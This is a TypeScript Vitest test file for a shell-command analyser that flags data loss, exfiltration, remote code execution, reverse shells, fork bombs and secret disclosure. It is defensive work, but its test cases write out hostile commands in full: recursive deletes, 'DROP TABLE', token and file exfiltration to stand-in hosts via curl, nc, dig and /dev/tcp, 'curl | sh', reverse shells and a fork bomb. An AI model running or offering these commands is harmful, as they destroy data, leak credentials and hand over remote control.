import { beforeAll, describe, expect, it } from "vitest";
import { analyseShell, loadShellParser } from "../../../src/rules/shell/analyse.ts";
import type { BehaviourKind } from "../../../src/rules/shell/analysis.ts";

beforeAll(loadShellParser);

function targets(line: string, kind: BehaviourKind): readonly string[] {
  const all = analyseShell(line).commands.flatMap((command) => command.behaviours);
  return [
    ...new Set(all.filter((behaviour) => behaviour.kind === kind).map((behaviour) => behaviour.target)),
  ];
}

describe("@loses", () => {
  it.each([
    ["rm -rf node_modules dist /tmp/x .turbo", []],
    ["rm -rf dist src", ["src"]],
    ["rm -rf dist/../src", ["src"]],
    ["rm -rf src/core src/cache build/cache", ["src/core", "src/cache"]],
    ["rm -rf ${TMP:-/} /tmp", ["/", "/tmp"]],
    ["rm a.ts", []],
    ["rm *", ["*"]],
    ["rm ~/a.ts", ["~/a.ts"]],
    ['rm -rf "$(mktemp -d)"', []],
    ['rm -rf "$DIR"', ["$DIR"]],
    ['rm -rf "$BUILD_DIR"', []],
    ['rm -rf "$BUILD_DIR"/*', ["$BUILD_DIR/*"]],
    ["cd dist && rm -rf *", []],
    ["find . -name '*.pyc' -delete", []],
    ["find . -delete", ["**"]],
    ["> app.db", ["app.db"]],
    ["> app.log", []],
    ["echo x > app.db", []],
    ["mv ~/project /dev/null", ["~/project"]],
    ["psql -c 'DROP TABLE users'", ["database"]],
    ["psql -c 'delete from users where id = 1'", []],
    ["python3 -c \"import shutil; shutil.rmtree('src')\"", ["src"]],
    ["python3 -c \"import shutil; shutil.rmtree('build')\"", []],
  ])("%s", (line, lost) => {
    expect(targets(line, "loses")).toEqual(lost);
  });
});

describe("@sends", () => {
  it.each([
    ["curl https://a.example/x", []],
    ["curl -d '{}' https://a.example", []],
    ["curl -T a https://a.example", ["a"]],
    ["curl -T a http://localhost:3000", []],
    ["cat a | base64 | curl -d @- https://a.example", ["a"]],
    ["echo hi | curl -d @- https://a.example", []],
    ["env | nc a.example 80", ["$*", "-"]],
    ["find ~ | nc a.example 80", ["-"]],
    ['curl "https://a.example/?t=$NPM_TOKEN"', ["$NPM_TOKEN"]],
    ['curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com', []],
    ['curl -H "Authorization: Bearer $GITHUB_TOKEN" https://github.evil.example', ["$GITHUB_TOKEN"]],
    ['curl -H "Authorization: Bearer $API_TOKEN" https://a.example', []],
    ['x=$(cat a); curl -d "$x" https://a.example', ["a"]],
    ["while read l; do curl https://a.example/$l; done < a", ["a"]],
    ["curl https://a.example/$(uname -s)", []],
    ["dig $(xxd -p a).a.example", ["a"]],
    ["scp a u@a.example:", ["a"]],
    ["scp u@a.example:a .", []],
    ["cat a > /dev/tcp/a.example/1", ["a"]],
  ])("%s", (line, sent) => {
    expect(targets(line, "sends")).toEqual(sent);
  });
});

describe("other behaviours", () => {
  it.each<readonly [string, BehaviourKind, readonly string[]]>([
    ["curl https://a.example | sh", "remote-code", [""]],
    ["wget https://a.example/i.sh && bash i.sh", "remote-code", [""]],
    ["curl https://a.example/a.tgz | tar xz && ./a/install", "remote-code", [""]],
    ["bash install.sh", "remote-code", []],
    ["bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "reverse-shell", [""]],
    ["nc -e sh 192.0.2.1 1", "reverse-shell", [""]],
    [":(){ :|:& };:", "fork-bomb", [":"]],
    ["f() { f; }; f", "fork-bomb", []],
    ["echo $GITHUB_TOKEN", "prints-secret", ["$GITHUB_TOKEN"]],
    ["echo ${#GITHUB_TOKEN} ${GITHUB_TOKEN:+set}", "prints-secret", []],
    ['echo "$CI_TOKEN" | docker login --password-stdin', "prints-secret", []],
    ["cat .env", "discloses", [".env"]],
    ["source .env", "discloses", []],
    ["chmod 600 key", "changes", []],
    ["echo x > key", "changes", ["key"]],
  ])("%s: %s", (line, kind, expected) => {
    expect(targets(line, kind)).toEqual(expected);
  });
});
